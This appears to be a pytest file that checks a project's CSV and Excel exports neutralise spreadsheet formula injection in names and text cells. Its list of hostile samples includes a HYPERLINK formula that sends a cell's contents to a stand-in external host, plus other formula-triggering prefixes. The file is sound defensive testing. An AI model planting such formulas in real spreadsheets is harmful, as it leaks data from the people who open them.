"""Every CSV/Excel export neutralises text a spreadsheet would run (issue 26, item 3).

One module writes them all (``widgets.donnees.exports``): ``;``, decimal comma, UTF-8 BOM;
a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a CR gets a leading apostrophe
in a CSV and is a quote-prefixed string cell in Excel; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from widgets.donnees.exports import classeur_excel, csv_francais, neutraliser
from widgets.donnees.portefeuille import exporter_csv
from widgets.donnees.progression import Progression
from widgets.exercices.corrige import exporter_classe
from widgets.exercices.suivi import LigneNote, notes_en_csv, notes_en_xlsx
from widgets.ui.resultats_sql import csv_francais as csv_sql
from widgets.ui.resultats_sql import excel_octets

HOSTILES = [
    '=HYPERLINK("http://x.example/?n="&A1;"Voir")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
]


def _cellules_csv(octets: bytes) -> list[list[str]]:
    assert octets.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM
    return list(csv.reader(io.StringIO(octets.decode("utf-8-sig"), newline=""), delimiter=";"))


def _feuille(octets: bytes, titre: str | None = None):
    classeur = load_workbook(io.BytesIO(octets))
    return classeur[titre] if titre else classeur.active


def test_each_hostile_start_gets_an_apostrophe_and_harmless_text_does_not():
    for texte in HOSTILES:
        assert neutraliser(texte) == "'" + texte
    for texte in ("Léa", "Jean-Pierre", "O'Neil", "", "12,5"):
        assert neutraliser(texte) == texte
    assert neutraliser(-3) == -3 and neutraliser(Decimal("-2.5")) == Decimal("-2.5")


def test_the_csv_keeps_numbers_as_numbers_and_neutralises_every_text_cell():
    octets = csv_francais(
        ["Nom", "Note", "Points", "Absent"],
        [[nom, Decimal("-12.5"), -3, None] for nom in HOSTILES] + [["Léa", 0.25, 7, float("nan")]],
    )
    lignes = _cellules_csv(octets)
    assert lignes[0] == ["Nom", "Note", "Points", "Absent"]
    assert [ligne[0] for ligne in lignes[1:-1]] == ["'" + h for h in HOSTILES]
    assert lignes[1][1:] == ["-12,5", "-3", ""]
    assert lignes[-1] == ["Léa", "0,25", "7", ""]
    assert b"\r\n" in octets


def test_the_workbook_stores_hostile_text_as_strings_never_formulas():
    octets = classeur_excel([("Feuille", ["Nom", "Note"], [[h, -2] for h in HOSTILES])])
    feuille = _feuille(octets)
    for numero, texte in enumerate(HOSTILES, start=2):
        cellule = feuille.cell(row=numero, column=1)
        assert cellule.value == texte.replace("\r", "\n")  # XML reads a CR back as LF
        assert cellule.data_type == "s"
        assert cellule.quotePrefix is True
        assert feuille.cell(row=numero, column=2).value == -2


def test_marks_csv_and_xlsx_of_the_cockpit_neutralise_class_list_names():
    lignes = [LigneNote(nom, "Léa", Decimal("15.5")) for nom in HOSTILES]
    cellules = _cellules_csv(notes_en_csv(lignes))
    assert [c[0] for c in cellules[1:]] == ["'" + h for h in HOSTILES]
    assert cellules[1][2] == "15,5"
    feuille = _feuille(notes_en_xlsx(lignes))
    assert [feuille.cell(row=i, column=1).data_type for i in range(2, 8)] == ["s"] * 6
    assert feuille.cell(row=2, column=3).value == 15.5
    assert feuille.cell(row=2, column=3).number_format == "0.00"


@pytest.fixture
def fichiers_hostiles(tmp_path: Path) -> list[Path]:
    chemins = []
    for numero, nom in enumerate(HOSTILES):
        chemin = tmp_path / f"eleve{numero}.sqlite"
        Progression(chemin).enregistrer_tentative(nom, "u", "u/a", "x", True, 1.0, "m")
        chemins.append(chemin)
    return chemins


def test_atelier_export_classe_neutralises_student_names_in_csv_and_excel(
    fichiers_hostiles, tmp_path
):
    exporter_classe(fichiers_hostiles, tmp_path / "classe.csv")
    cellules = _cellules_csv((tmp_path / "classe.csv").read_bytes())
    colonne = cellules[0].index("etudiant")
    assert sorted(c[colonne] for c in cellules[1:]) == sorted("'" + h for h in HOSTILES)
    exporter_classe(fichiers_hostiles, tmp_path / "classe.xlsx")
    for titre in ("Synthèse", "Détail"):
        feuille = _feuille((tmp_path / "classe.xlsx").read_bytes(), titre)
        noms = [feuille.cell(row=i, column=1) for i in range(2, 8)]
        attendus = sorted(h.replace("\r", "\n") for h in HOSTILES)
        assert sorted(c.value for c in noms) == attendus, titre
        assert {c.data_type for c in noms} == {"s"}
    synthese = _feuille((tmp_path / "classe.xlsx").read_bytes(), "Synthèse")
    assert synthese.cell(row=2, column=2).value == 100.0


def test_sql_result_exports_and_portfolio_segment_neutralise_text(tmp_path):
    df = pd.DataFrame({"nom": HOSTILES, "ca": [1234.5] * 6, "n": [-1] * 6})
    cellules = _cellules_csv(csv_sql(df))
    assert [c[0] for c in cellules[1:]] == ["'" + h for h in HOSTILES]
    assert cellules[1][1:] == ["1234,5", "-1"]
    feuille = _feuille(excel_octets(df))
    assert feuille.cell(row=2, column=1).data_type == "s"
    assert feuille.cell(row=2, column=2).value == 1234.5
    chemin = exporter_csv(
        [{"nom": h, "ca": Decimal("10.50")} for h in HOSTILES], tmp_path / "s.csv"
    )
    cellules = _cellules_csv(chemin.read_bytes())
    assert cellules[1] == ["'" + HOSTILES[0], "10,50"]


ECRITURES = re.compile(
    r"\.to_csv\(|\.to_excel\(|csv\.writer\(|DictWriter\(|Workbook\(|ExcelWriter\("
    r"|\.encode\(\s*[\"']utf-8-sig|open\([^)]*[\"']w[^)]*utf-8-sig"
)


def test_no_module_of_widgets_writes_csv_or_excel_outside_the_export_module():
    racine = Path(__file__).resolve().parents[1] / "widgets"
    fautifs = [
        f"{chemin.relative_to(racine)}:{numero}"
        for chemin in racine.rglob("*.py")
        if chemin.name != "exports.py"
        for numero, ligne in enumerate(chemin.read_text(encoding="utf-8").splitlines(), 1)
        if ECRITURES.search(ligne)
    ]
    assert fautifs == []
